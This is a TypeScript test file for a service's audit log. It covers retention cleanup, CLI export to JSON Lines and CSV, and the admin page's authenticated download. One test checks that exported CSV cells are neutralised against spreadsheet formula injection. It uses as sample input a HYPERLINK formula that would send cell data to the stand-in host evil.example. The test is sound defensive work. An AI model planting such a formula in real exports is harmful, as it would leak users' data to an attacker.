// lanes: sqlite postgres
// Audit retention (SVC_AUDIT_RETENTION_DAYS) and the audit log as a file: `svc admin audit
// export` and the admin page's download.
import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { AuditRetention } from "../../src/audit/audit-retention";
import { createLogger } from "../../src/core/logger";
import { ADMIN_TOKEN, BASE, makeTestApp, type TestApp } from "../helpers/app";
import { svcAdminRun, tempDir } from "../helpers/server";

const DAY = 86_400_000;

/** Audit entries of one token, one per `stepMs`, from the clock's time backwards. */
function writeEntries(t: TestApp, tokenId: string, count: number, stepMs: number): void {
  const now = t.clock.now().getTime();
  t.services.store.port.transaction(() => {
    for (let i = count - 1; i >= 0; i--) {
      t.services.audit.write({
        at: new Date(now - i * stepMs),
        actor: "token",
        apiTokenId: tokenId,
        action: "mcp.get_balance",
        tool: "get_balance",
        arguments: { n: i, text: 'с "кавычками", запятыми\nи строками' },
        outcome: "ok",
        requestId: `r-${i}`,
        transport: "http",
      });
    }
  });
}

describe("audit retention", () => {
  test("deletes entries older than the retention in batches, keeps the rest and the per-token view", async () => {
    const t = makeTestApp();
    const { tokenId } = t.fixtures.world({ purpose: "mcp" });
    // 2,000 entries an hour apart: about 83 days, of which the last 30 days stay.
    writeEntries(t, tokenId, 2000, 3_600_000);
    const sqlite = t.db;
    const count = () => sqlite.query<{ n: number }, []>("SELECT count(*) AS n FROM audit_log").get()?.n ?? 0;
    const before = count();
    const cutoff = new Date(t.clock.now().getTime() - 30 * DAY).toISOString();
    const old =
      sqlite.query<{ n: number }, [string]>("SELECT count(*) AS n FROM audit_log WHERE at < ?").get(cutoff)
        ?.n ?? 0;
    expect(old).toBeGreaterThan(1000);

    const logs: string[] = [];
    const retention = new AuditRetention(
      t.services.store.port,
      30,
      t.clock,
      createLogger("info", (l) => logs.push(l)),
    );
    expect(await retention.runOnce()).toBe(old);
    expect(count()).toBe(before - old);
    expect(
      sqlite.query<{ n: number }, [string]>("SELECT count(*) AS n FROM audit_log WHERE at < ?").get(cutoff)
        ?.n,
    ).toBe(0);
    expect(logs.some((l) => l.includes("audit entries past retention deleted"))).toBe(true);
    // The per-token map holds no block wholly below the oldest entry left.
    const minId = sqlite.query<{ id: number }, []>("SELECT min(id) AS id FROM audit_log").get()?.id ?? 0;
    const stale = sqlite
      .query<{ n: number }, [number]>("SELECT count(*) AS n FROM audit_token_blocks WHERE block < ?")
      .get(Math.floor(minId / 4096))?.n;
    expect(stale).toBe(0);
    // The admin API's per-token query still pages through what is left.
    const res = await t.admin("GET", `/audit-log?api_token_id=${tokenId}&limit=500`);
    expect(res.status).toBe(200);
    expect(((await res.json()) as { entries: unknown[] }).entries).toHaveLength(500);
    // A second pass finds nothing more.
    expect(await retention.runOnce()).toBe(0);
  });
});

describe("svc admin audit export", () => {
  test("streams the period as JSON Lines or CSV, oldest first; bad flags are usage errors", async () => {
    const dbPath = join(tempDir(), "svc.db");
    const t = makeTestApp({}, "2026-11-20T09:00:00Z", { dbPath });
    const { tokenId } = t.fixtures.world({ purpose: "mcp" });
    writeEntries(t, tokenId, 50, 3_600_000);
    t.services.store.close();

    const since = "2026-11-19T00:00:00Z";
    const until = "2026-11-20";
    const jsonl = await svcAdminRun(dbPath, ["audit", "export", "--since", since, "--until", until]);
    expect(jsonl.code).toBe(0);
    const lines = jsonl.out
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const inRange = lines.filter((e) => e.action === "mcp.get_balance");
    expect(inRange).toHaveLength(24);
    expect(inRange.every((e) => String(e.at) >= "2026-11-19T00" && String(e.at) < "2026-11-20")).toBe(true);
    const ats = lines.map((e) => String(e.at));
    expect(ats).toEqual([...ats].sort());
    expect(inRange[0]?.arguments).toMatchObject({ text: 'с "кавычками", запятыми\nи строками' });

    const csv = await svcAdminRun(dbPath, [
      "audit",
      "export",
      "--format",
      "csv",
      "--since",
      since,
      "--until",
      until,
    ]);
    expect(csv.code).toBe(0);
    const records = parse(csv.out, { columns: true }) as Record<string, string>[];
    expect(records.filter((r) => r.action === "mcp.get_balance")).toHaveLength(24);
    expect(JSON.parse(records.find((r) => r.action === "mcp.get_balance")?.arguments ?? "{}")).toMatchObject({
      text: 'с "кавычками", запятыми\nи строками',
    });

    const badFormat = await svcAdminRun(dbPath, ["audit", "export", "--format", "xml"]);
    expect(badFormat.code).toBe(2);
    expect(badFormat.err).toContain("--format");
    const badSince = await svcAdminRun(dbPath, ["audit", "export", "--since", "yesterday"]);
    expect(badSince.code).toBe(2);
    expect(badSince.err).toContain("--since");
  });
});

describe("the admin page's audit download", () => {
  async function cookieOf(t: TestApp): Promise<string> {
    const res = await t.app.handle(
      new Request(`${BASE}/admin/login`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded", origin: BASE },
        body: new URLSearchParams({ token: ADMIN_TOKEN }).toString(),
      }),
    );
    expect(res.status).toBe(303);
    return res.headers.get("set-cookie")?.split(";")[0] ?? "";
  }

  test("signed in: the period as a CSV or JSON Lines file; signed out: the sign-in page", async () => {
    const t = makeTestApp();
    const { tokenId } = t.fixtures.world({ purpose: "mcp" });
    writeEntries(t, tokenId, 10, 3_600_000);
    const get = (path: string, cookie?: string) =>
      t.app.handle(new Request(`${BASE}${path}`, { headers: cookie ? { cookie } : {} }));

    const anonymous = await get("/admin/audit-log/export?format=csv");
    expect(anonymous.status).toBe(303);
    expect(anonymous.headers.get("location")).toBe("/admin/login");

    const cookie = await cookieOf(t);
    const page = await (await get("/admin/audit-log", cookie)).text();
    expect(page).toContain("/admin/audit-log/export?format=csv");

    const csv = await get("/admin/audit-log/export?format=csv&since=2026-11-20T05:00", cookie);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toContain(
      'attachment; filename="audit_2026-11-20_now.csv"',
    );
    const records = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    // 05:00 through 09:00 inclusive of the entries an hour apart ending at 09:00.
    expect(records.filter((r) => r.action === "mcp.get_balance").map((r) => r.at)).toEqual([
      "2026-11-20T05:00:00.000Z",
      "2026-11-20T06:00:00.000Z",
      "2026-11-20T07:00:00.000Z",
      "2026-11-20T08:00:00.000Z",
      "2026-11-20T09:00:00.000Z",
    ]);

    const jsonl = await get("/admin/audit-log/export?format=jsonl", cookie);
    expect(jsonl.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect((await jsonl.text()).trimEnd().split("\n").length).toBeGreaterThanOrEqual(10);

    expect((await get("/admin/audit-log/export?format=xml", cookie)).status).toBe(400);
    expect((await get("/admin/audit-log/export?format=csv&since=someday", cookie)).status).toBe(400);
  });
});

describe("formulas in the audit CSV", () => {
  test("text cells that a spreadsheet would run are prefixed with '; numbers stay numbers", async () => {
    const t = makeTestApp();
    const { tokenId } = t.fixtures.world({ purpose: "mcp" });
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"открыть")';
    const starts = [formula, "+7 495", "-1+2", "@SUM(A1)", "\tTAB", "\rCR"];
    for (const [i, text] of starts.entries()) {
      t.services.audit.write({
        at: new Date(t.clock.now().getTime() - 1000 + i),
        actor: "token",
        apiTokenId: tokenId,
        action: "mcp.search_operations",
        tool: "search_operations",
        target: text,
        arguments: { query: text },
        outcome: "ok",
        durationMs: 5,
        requestId: `r-${i}`,
        transport: "http",
      });
    }
    // A refused sign-in without a token lands in the log with the caller's request id.
    const signIn = await t.app.handle(
      new Request(`${BASE}/admin/login`, {
        method: "POST",
        headers: {
          "content-type": "application/x-www-form-urlencoded",
          origin: BASE,
          "x-request-id": "-2.5",
        },
        body: new URLSearchParams({ token: "wrong" }).toString(),
      }),
    );
    expect(signIn.status).toBe(401);

    const login = await t.app.handle(
      new Request(`${BASE}/admin/login`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded", origin: BASE },
        body: new URLSearchParams({ token: ADMIN_TOKEN }).toString(),
      }),
    );
    const cookie = login.headers.get("set-cookie")?.split(";")[0] ?? "";
    const csv = await t.app.handle(
      new Request(`${BASE}/admin/audit-log/export?format=csv`, { headers: { cookie } }),
    );
    expect(csv.status).toBe(200);
    const records = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    const searches = records.filter((r) => r.action === "mcp.search_operations");
    expect(searches.map((r) => r.target)).toEqual(starts.map((s) => `'${s}`));
    for (const r of searches) {
      expect(r.tool).toBe("search_operations");
      // JSON text begins with {: nothing to neutralise, and it stays valid JSON.
      expect(r.arguments?.startsWith("{")).toBe(true);
      expect(r.duration_ms).toBe("5");
      expect(Number.isInteger(Number(r.id))).toBe(true);
    }
    const refused = records.find((r) => r.action === "admin.ui.sign_in");
    expect(refused?.request_id).toBe("'-2.5");
  });
});
